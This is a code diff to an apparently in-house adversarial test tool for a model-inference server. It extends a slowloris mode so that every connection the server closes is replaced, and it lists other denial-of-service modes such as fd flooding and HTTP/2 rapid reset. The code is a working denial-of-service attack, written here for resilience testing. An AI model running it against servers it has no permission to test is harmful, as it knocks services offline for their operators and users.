@@ -4,7 +4,7 @@
   python hostile.py stall   --port P [--calls N] [--lq L] [--lk L] [--d D] [--hold S]
   python hostile.py garbage --port P --metrics_port M [--connections N] [--seed S]
   python hostile.py limit   --port P --max_message_bytes B
-  python hostile.py slow_http --port M [--connections N] [--hold S]
+  python hostile.py slow_http --port M [--connections N] [--hold S] [--reconnect]
   python hostile.py outputs --port P [--calls N] [--connections C] [--copies K] [--lk L]
   python hostile.py fd_flood --port P [--connections N] [--hold S] [--recover_within S]
   python hostile.py rapid_reset --port P [--streams N] [--seconds S] [--connections C] [--no_read]
@@ -28,7 +28,8 @@ call) and exits 0 when it ran; what passes is for the caller to decide.
   ends and a request cut mid-way to the metrics port. Notes how each ended.
 - slow_http: N connections to the metrics port, each sending an HTTP
   request whose headers never end: a header line every second for S seconds
-  (a slowloris). Notes which the server closed, and when.
+  (a slowloris). Notes which the server closed, and when; with
+  --reconnect, replaces each closed one, so N stay open for S seconds.
 - outputs: N KServe ModelInfer calls to dot_product_attention over C
   connections (queries, keys and values 1xLx1: a 12 KB request for L=1024)
   each listing the output attention_weights (1xLxL, 4 MiB) K times; with
@@ -547,32 +548,38 @@ def cmd_garbage(args):
 
 def cmd_slow_http(args):
     start = time.monotonic()
-    conns = []
-    for _ in range(args.connections):
+
+    def open_one():
         try:
             sock = socket.create_connection((args.host, args.port), timeout=5)
             sock.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
             sock.setblocking(False)
-            conns.append({"sock": sock, "closed_at": None, "answer": None})
+            return {"sock": sock, "closed_at": None, "answer": None}
         except OSError:
-            pass
+            return None
+
+    conns = [c for c in (open_one() for _ in range(args.connections)) if c]
+    closed, answers, reopened = [], {}, 0
     deadline = start + args.hold
     next_line = time.monotonic() + 1.0
     while time.monotonic() < deadline:
         live = [c for c in conns if c["closed_at"] is None]
         if not live:
             break
-        readable, _, _ = select.select([c["sock"] for c in live], [], [], 0.1)
-        for c in live:
-            if c["sock"] in readable:
-                try:
-                    data = c["sock"].recv(4096)
-                except OSError:
-                    data = b""
-                if data and c["answer"] is None:
-                    c["answer"] = data.split(b"\r\n", 1)[0][:60].decode("latin-1")
-                if not data:
-                    c["closed_at"] = round(time.monotonic() - start, 2)
+        poller = select.poll()  # select() stops at fd 1024
+        by_fd = {c["sock"].fileno(): c for c in live}
+        for fd in by_fd:
+            poller.register(fd, select.POLLIN)
+        for fd, _ in poller.poll(100):
+            c = by_fd[fd]
+            try:
+                data = c["sock"].recv(4096)
+            except OSError:
+                data = b""
+            if data and c["answer"] is None:
+                c["answer"] = data.split(b"\r\n", 1)[0][:60].decode("latin-1")
+            if not data:
+                c["closed_at"] = round(time.monotonic() - start, 2)
         if time.monotonic() >= next_line:
             next_line += 1.0
             for c in live:
@@ -580,13 +587,26 @@ def cmd_slow_http(args):
                     c["sock"].send(b"X-Slow: %d\r\n" % int(time.monotonic() - start))
                 except OSError:
                     c["closed_at"] = round(time.monotonic() - start, 2)
-    closed = [c["closed_at"] for c in conns if c["closed_at"] is not None]
-    answers = {}
-    for c in conns:
-        if c["answer"]:
-            answers[c["answer"]] = answers.get(c["answer"], 0) + 1
-    print(json.dumps({"mode": "slow_http", "connections": len(conns), "hold_s": args.hold,
-                      "closed_by_server": len(closed),
+        # Each one the server closed: noted, and (--reconnect) replaced, so
+        # the pressure lasts as long as the attacker wants.
+        for i, c in enumerate(conns):
+            if c["closed_at"] is None:
+                continue
+            closed.append(c["closed_at"])
+            if c["answer"]:
+                answers[c["answer"]] = answers.get(c["answer"], 0) + 1
+            c["sock"].close()
+            fresh = open_one() if args.reconnect else None
+            if fresh:
+                reopened += 1
+                conns[i] = fresh
+            else:
+                c["closed_at"] = -1.0  # counted; kept out of the live set
+                c["sock"] = None
+        conns = [c for c in conns if c["sock"] is not None]
+    print(json.dumps({"mode": "slow_http", "connections": args.connections,
+                      "hold_s": args.hold, "closed_by_server": len(closed),
+                      "reopened": reopened,
                       "first_close_s": min(closed) if closed else None,
                       "answers": answers}))
     for c in conns:
@@ -815,6 +835,8 @@ def main(argv):
     common(p)
     p.add_argument("--connections", type=int, default=8)
     p.add_argument("--hold", type=float, default=10.0)
+    p.add_argument("--reconnect", action="store_true",
+                   help="open a new slow connection for each one the server closes")
     p.set_defaults(run=cmd_slow_http)
     p = sub.add_parser("limit")
     common(p)
